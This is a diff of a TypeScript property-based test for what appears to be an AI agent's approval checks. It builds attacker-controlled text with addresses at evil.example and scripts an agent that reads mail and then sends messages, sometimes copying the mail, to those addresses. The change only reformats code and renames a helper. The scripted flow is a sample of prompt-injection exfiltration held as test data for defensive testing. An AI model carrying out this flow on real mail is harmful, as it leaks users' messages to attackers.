@@ -39,18 +39,16 @@ const usesOf = fc.subarray([
 const word = fc.stringMatching(/^[a-z]{3,9}$/);
 
 /** Always with a link, so that a text that repeats it needs approval in every variation. */
-const attackerText = fc
-  .tuple(fc.array(word, { minLength: 8, maxLength: 12 }), word)
-  .map(([words, host]) => ({
-    words: words.map((each) => `${each}@evil.example`),
-    link: `www.${host}x.example`,
-  }));
+const attackerText = fc.tuple(fc.array(word, { minLength: 8, maxLength: 12 }), word).map(([words, host]) => ({
+  words: words.map((each) => `${each}@evil.example`),
+  link: `www.${host}x.example`,
+}));
 
 type AttackerText = { readonly words: readonly string[]; readonly link: string };
 
 const trusted = { own, found, known };
 
-const valueOf = ({ from, index }: SinkCall["target"], attacker: AttackerText): string => {
+const targetText = ({ from, index }: SinkCall["target"], attacker: AttackerText): string => {
   const list = from === "attacker" ? attacker.words : trusted[from];
   return list[index % list.length]!;
 };
@@ -99,7 +97,7 @@ const run = async (
     calls(["contacts", {}]),
     calls(["read_mail", {}]),
     ...sinks.map(({ tool: name, target, copiesText }) =>
-      calls([name, { to: valueOf(target, attacker), body: copiesText ? mail : "Hello" }]),
+      calls([name, { to: targetText(target, attacker), body: copiesText ? mail : "Hello" }]),
     ),
     says("Done."),
   ];
